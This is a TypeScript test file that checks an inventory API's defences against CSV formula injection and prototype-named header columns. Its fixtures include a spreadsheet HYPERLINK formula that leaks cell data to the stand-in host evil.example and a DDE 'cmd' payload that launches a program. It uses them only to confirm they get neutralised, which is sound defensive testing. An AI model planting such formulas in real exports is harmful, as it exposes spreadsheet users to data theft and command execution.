/**
 * CSV safety (issue 12, finding D): a CSV feed's header is matched by own properties only
 * (`constructor`, `__proto__`, `toString` are unknown columns, not inherited ones), and every
 * CSV the API returns neutralises cells a spreadsheet would run as a formula (`=`, `+`, `-`,
 * `@`, tab, CR first) with a leading `'`; a plain number such as `-5` stays a number.
 */
import { parse } from "csv-parse/sync";
import { exports } from "cloudflare:workers";
import { beforeAll, describe, expect, it } from "vitest";
import { parseCsvFeed } from "../domain/csv-feed";
import { csvCell } from "../domain/csv-output";
import { api, seedBasics, type Keys } from "./support/fixtures";
import { postFeed } from "./support/sync-fixtures";

let keys: Keys;
beforeAll(async () => {
  keys = await seedBasics();
});

describe("CSV feed header", () => {
  it.each(["constructor", "__proto__", "toString", "hasOwnProperty", "valueOf"])("a column named %s is an unknown column, refused whole", (name) => {
    const result = parseCsvFeed(`sku,location_id,quantity,${name}\nA-1,L1,1,x\n`);
    expect(result).toMatchObject({ ok: false, code: "invalid_csv_header", details: { unknown: [name.toLowerCase()] } });
    const instead = parseCsvFeed(`sku,location_id,${name}\nA-1,L1,1\n`);
    expect(instead).toMatchObject({ ok: false, code: "invalid_csv_header", details: { unknown: [name.toLowerCase()], missing: ["quantity"] } });
  });

  it("positive control: the three real columns in any order are accepted", () => {
    expect(parseCsvFeed("Quantity , SKU,location_id\n3,A-1,L1\n")).toEqual({
      ok: true,
      items: [{ itemIndex: 0, row: 2, value: { quantity: "3", sku: "A-1", locationId: "L1" } }],
    });
  });
});

describe("CSV cells the API returns", () => {
  it.each([
    ["=1+1", "'=1+1"],
    ["+SUM(A1)", "'+SUM(A1)"],
    ["-2+3", "'-2+3"],
    ["-", "'-"],
    ["@cmd", "'@cmd"],
    ["\t=1", "'\t=1"],
    ["\r=1", "'\r=1"],
    ["-5", "-5"],
    ["-12.5", "-12.5"],
    ["42", "42"],
    ["SKU-1", "SKU-1"],
    ["", ""],
  ])("%j is written as %j", (value, text) => {
    expect(csvCell(value)).toBe(/[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text);
  });

  it("the sync error report's CSV neutralises formula cells; the JSON report keeps the values as sent", async () => {
    const hostile = [
      { sku: '=HYPERLINK("http://evil.example/?x="&A1,"click")', locationId: "L1", quantity: 1 },
      { sku: "+SUM(1+1)", locationId: "L1", quantity: 1 },
      { sku: "@SUM(1)", locationId: "L1", quantity: 1 },
      { sku: "-2+3", locationId: "L1", quantity: 1 },
      { sku: "\t=1+1", locationId: "L1", quantity: 1 },
      { sku: "\r=1+1", locationId: "L1", quantity: 1 },
      { sku: "OK-1", locationId: "=cmd|' /C calc'!A0", quantity: 1 },
      { sku: "OK-2", locationId: "L1", quantity: -5 },
    ];
    const res = await postFeed(keys.vendor, hostile);
    expect(res.status).toBe(202);
    expect(res.body.rejected).toBe(hostile.length);
    const csv = await exports.default.fetch(
      new Request(`http://inventory.test/api/v2/sync/${res.body.jobId}/errors?format=csv`, { headers: { authorization: `Bearer ${keys.vendor}` } }),
    );
    expect(csv.headers.get("content-type")).toMatch(/^text\/csv/);
    const rows = parse(await csv.text(), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.sku)).toEqual([
      `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
      "'+SUM(1+1)",
      "'@SUM(1)",
      "'-2+3",
      "'\t=1+1",
      "'\r=1+1",
      "OK-1",
      "OK-2",
    ]);
    expect(rows[6]!.location_id).toBe("'=cmd|' /C calc'!A0");
    // A negative quantity is a plain number: it stays a number.
    expect(rows[7]!.quantity).toBe("-5");
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);

    const json = await api("GET", `/api/v2/sync/${res.body.jobId}/errors`, { key: keys.vendor });
    expect(json.body.items.map((i: { sku: string }) => i.sku)).toEqual(hostile.map((h) => h.sku));
  });
});
